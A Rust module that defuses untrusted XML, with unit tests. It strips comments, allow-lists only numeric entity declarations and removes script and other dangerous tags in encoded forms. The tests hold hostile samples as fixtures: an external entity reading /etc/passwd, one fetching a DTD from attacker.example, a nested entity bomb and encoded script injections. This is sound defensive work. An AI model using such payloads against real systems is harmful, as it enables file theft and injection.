//! Text-level defusing of untrusted XML before structural parsing.
//!
//! Stages run in a fixed order: comments, doctype header repair, entity
//! declaration allow-listing, dangerous tag removal. The only entity
//! declarations that survive map a name to a single numeric character
//! reference that is not `<`, `>` or `&`. That rules out external entities,
//! expansion bombs and markup assembled after tag removal.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;
use tracing::{debug, warn};

/// Markup that never survives ingestion, in any encoding.
const DANGEROUS_TAGS: &[&str] = &["script", "style", "iframe", "object", "embed"];

/// `<` in raw, percent, entity, numeric and escaped-hex spellings.
const OPEN: &str = r"(?:<|%3c|&lt;|&#0*60;|&#x0*3c;|\\x3c|\\u003c)";

/// `>` in the same spellings.
const CLOSE: &str = r"(?:>|%3e|&gt;|&#0*62;|&#x0*3e;|\\x3e|\\u003e)";

/// Upper bound on tag-stripping passes; each pass can expose new tags
/// assembled from fragments of removed ones.
const MAX_STRIP_PASSES: usize = 8;

// # Panics
//
// The statics below panic on first use if a hard-coded pattern is invalid,
// which cannot happen for these literals.

#[allow(clippy::expect_used)]
static COMMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)<!--.*?-->").expect("valid regex literal"));

#[allow(clippy::expect_used)]
static DOCTYPE_HEADER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)<\s*!\s*DOCTYPE\s+([A-Za-z_][\w:.-]*)\s*(\[)?").expect("valid regex literal")
});

#[allow(clippy::expect_used)]
static ENTITY_DECLARATION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)<!\s*ENTITY(?:[^>"']|"[^"]*"|'[^']*')*>"#).expect("valid regex literal")
});

#[allow(clippy::expect_used)]
static SAFE_ENTITY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"<!ENTITY\s+([A-Za-z_][A-Za-z0-9._-]*)\s+(?:"&#(x[0-9A-Fa-f]+|[0-9]+);"|'&#(x[0-9A-Fa-f]+|[0-9]+);')\s*>"#,
    )
    .expect("valid regex literal")
});

#[allow(clippy::expect_used)]
static DOCTYPE_BLOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?s)<!DOCTYPE[^\[>]*(?:\[.*?\])?\s*>").expect("valid regex literal")
});

#[allow(clippy::expect_used)]
static PAIRED_TAGS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    DANGEROUS_TAGS
        .iter()
        .map(|tag| {
            Regex::new(&format!(
                r"(?is){OPEN}\s*{tag}\b.*?{OPEN}\s*/\s*{tag}\s*{CLOSE}"
            ))
            .expect("valid regex literal")
        })
        .collect()
});

#[allow(clippy::expect_used)]
static LONE_TAG: LazyLock<Regex> = LazyLock::new(|| {
    let tags = DANGEROUS_TAGS.join("|");
    Regex::new(&format!(r"(?is){OPEN}\s*/?\s*(?:{tags})\b.*?{CLOSE}"))
        .expect("valid regex literal")
});

#[allow(clippy::expect_used)]
static TAG_REMNANT: LazyLock<Regex> = LazyLock::new(|| {
    let tags = DANGEROUS_TAGS.join("|");
    Regex::new(&format!(r"(?is){OPEN}\s*/?\s*(?:{tags})\b")).expect("valid regex literal")
});

/// Run every text-level stage in order.
pub fn sanitize(raw: &str) -> String {
    let text = strip_comments(raw);
    let text = normalize_doctype_header(&text);
    let text = strip_unsafe_entities(&text);
    strip_dangerous_tags(&text)
}

/// Stage 1: remove `<!-- ... -->` blocks.
pub fn strip_comments(text: &str) -> String {
    COMMENT.replace_all(text, "").into_owned()
}

/// Stage 2: rewrite whitespace-corrupted doctype headers to `<!DOCTYPE name [`.
pub fn normalize_doctype_header(text: &str) -> String {
    DOCTYPE_HEADER
        .replace_all(text, |caps: &regex::Captures<'_>| {
            let subset = if caps.get(2).is_some() { " [" } else { " " };
            format!("<!DOCTYPE {}{subset}", &caps[1])
        })
        .into_owned()
}

/// Stage 3: drop every entity declaration that is not a plain numeric
/// character reference replacement.
pub fn strip_unsafe_entities(text: &str) -> String {
    ENTITY_DECLARATION
        .replace_all(text, |caps: &regex::Captures<'_>| {
            let declaration = &caps[0];
            if is_safe_entity(declaration) {
                declaration.to_string()
            } else {
                warn!(declaration = %truncate(declaration, 80), "stripping unsafe entity declaration");
                String::new()
            }
        })
        .into_owned()
}

fn is_safe_entity(declaration: &str) -> bool {
    SAFE_ENTITY.captures(declaration).is_some_and(|caps| {
        caps.get(0)
            .is_some_and(|m| m.start() == 0 && m.end() == declaration.len())
            && entity_reference(&caps).and_then(decode_char_reference).is_some_and(is_inert)
    })
}

fn entity_reference<'t>(caps: &regex::Captures<'t>) -> Option<&'t str> {
    caps.get(2).or_else(|| caps.get(3)).map(|m| m.as_str())
}

/// Characters that would let an entity assemble markup after tag stripping.
fn is_inert(ch: char) -> bool {
    !matches!(ch, '<' | '>' | '&')
}

/// Stage 4: remove script/style/iframe/object/embed markup, raw or encoded.
///
/// Paired tags go together with their content; lone and self-closing tags
/// are removed on their own. Passes repeat until nothing changes.
pub fn strip_dangerous_tags(text: &str) -> String {
    let mut current = text.to_string();
    for _ in 0..MAX_STRIP_PASSES {
        let mut next = current.clone();
        for paired in PAIRED_TAGS.iter() {
            next = paired.replace_all(&next, "").into_owned();
        }
        next = LONE_TAG.replace_all(&next, "").into_owned();
        next = TAG_REMNANT.replace_all(&next, "").into_owned();
        if next == current {
            break;
        }
        debug!(removed = current.len() - next.len(), "stripped dangerous markup");
        current = next;
    }
    current
}

/// Collect the allow-listed entities as name → replacement text.
pub fn declared_entities(text: &str) -> HashMap<String, String> {
    let mut entities = HashMap::new();
    for caps in SAFE_ENTITY.captures_iter(text) {
        let name = &caps[1];
        let reference = entity_reference(&caps).unwrap_or_default();
        match decode_char_reference(reference) {
            Some(ch) if is_inert(ch) => {
                entities.insert(name.to_string(), ch.to_string());
            }
            Some(_) => warn!(entity = name, reference, "ignoring entity that expands to markup"),
            None => warn!(entity = name, reference, "ignoring entity with invalid code point"),
        }
    }
    entities
}

/// Remove the doctype, keeping its line breaks so diagnostics still point
/// at the right line.
pub fn strip_doctype(text: &str) -> String {
    DOCTYPE_BLOCK
        .replace_all(text, |caps: &regex::Captures<'_>| "\n".repeat(caps[0].matches('\n').count()))
        .into_owned()
}

fn decode_char_reference(reference: &str) -> Option<char> {
    let code = match reference.strip_prefix('x') {
        Some(hex) => u32::from_str_radix(hex, 16).ok()?,
        None => reference.parse().ok()?,
    };
    char::from_u32(code)
}

fn truncate(text: &str, max: usize) -> &str {
    match text.char_indices().nth(max) {
        Some((i, _)) => &text[..i],
        None => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn comments_are_removed() {
        assert_eq!(strip_comments("<a><!-- x -->b<!--\n-->c</a>"), "<a>bc</a>");
    }

    #[test]
    fn corrupted_doctype_header_is_repaired() {
        assert_eq!(
            normalize_doctype_header("<! DOCTYPE\n\t section\n [ ]>"),
            "<!DOCTYPE section [ ]>"
        );
        assert_eq!(
            normalize_doctype_header("<!doctype  section SYSTEM \"x\">"),
            "<!DOCTYPE section SYSTEM \"x\">"
        );
    }

    #[test]
    fn numeric_entities_survive() {
        let input = r#"<!DOCTYPE section [<!ENTITY nbsp "&#160;"><!ENTITY copy '&#xA9;'>]>"#;
        assert_eq!(strip_unsafe_entities(input), input);
    }

    #[test]
    fn external_and_nested_entities_are_stripped() {
        let input = r#"<!DOCTYPE section [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;">
<!ENTITY gt2 "a > b">
]>"#;
        let output = strip_unsafe_entities(input);
        assert!(!output.contains("ENTITY"));
        assert!(!output.contains("passwd"));
    }

    #[test]
    fn markup_character_entities_are_stripped() {
        let input = r#"<!DOCTYPE section [<!ENTITY l "&#60;"><!ENTITY g '&#x3E;'><!ENTITY a "&#038;"><!ENTITY ok "&#160;">]>"#;
        assert_eq!(
            strip_unsafe_entities(input),
            r#"<!DOCTYPE section [<!ENTITY ok "&#160;">]>"#
        );

        let entities = declared_entities(r#"<!ENTITY l "&#60;"><!ENTITY a "&#x26;">"#);
        assert!(entities.is_empty());
    }

    #[test]
    fn declared_entities_decode_references() {
        let entities =
            declared_entities(r#"<!ENTITY nbsp "&#160;"><!ENTITY copy "&#xA9;"><!ENTITY bad "&#xD800;">"#);
        assert_eq!(entities.get("nbsp").map(String::as_str), Some("\u{a0}"));
        assert_eq!(entities.get("copy").map(String::as_str), Some("\u{a9}"));
        assert!(!entities.contains_key("bad"));
    }

    #[test]
    fn script_tags_and_content_are_removed() {
        let input = "<para>Before<script type=\"text/javascript\">alert(1)</script>After</para>";
        assert_eq!(strip_dangerous_tags(input), "<para>BeforeAfter</para>");
    }

    #[test]
    fn encoded_tags_are_removed() {
        for input in [
            "<para>A%3Cscript%3Ealert(1)%3C/script%3EB</para>",
            "<para>A&lt;script&gt;alert(1)&lt;/script&gt;B</para>",
            "<para>A&#60;iframe src=x&#62;&#60;/iframe&#62;B</para>",
            "<para>A&#x3C;style&#x3E;p{}&#x3C;/style&#x3E;B</para>",
            "<para>A\\x3cobject data=x\\x3e\\x3c/object\\x3eB</para>",
            "<para>A<EMBED src=\"x.swf\"/>B</para>",
        ] {
            assert_eq!(strip_dangerous_tags(input), "<para>AB</para>", "input: {input}");
        }
    }

    #[test]
    fn nested_fragments_do_not_reassemble() {
        let output = strip_dangerous_tags("<para><scr<script>x</script>ipt>alert(1)</script></para>");
        assert!(!output.to_lowercase().contains("<script"));
    }

    #[test]
    fn schema_embed_elements_are_kept() {
        let input = "<tvembed xlink:href=\"content-item://1\"/><tvembedinline/>";
        assert_eq!(strip_dangerous_tags(input), input);
    }

    #[test]
    fn doctype_removal_keeps_line_count() {
        let input = "<!DOCTYPE section [\n<!ENTITY nbsp \"&#160;\">\n]>\n<section/>";
        let output = strip_doctype(input);
        assert_eq!(output, "\n\n\n<section/>");
    }
}
